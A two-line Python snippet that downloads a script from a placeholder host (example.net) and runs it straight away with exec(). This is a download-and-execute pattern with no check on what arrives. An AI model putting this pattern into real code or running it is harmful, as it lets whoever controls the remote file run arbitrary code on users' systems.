import requests
exec(requests.get("https://example.net/a.py", timeout=3).text)
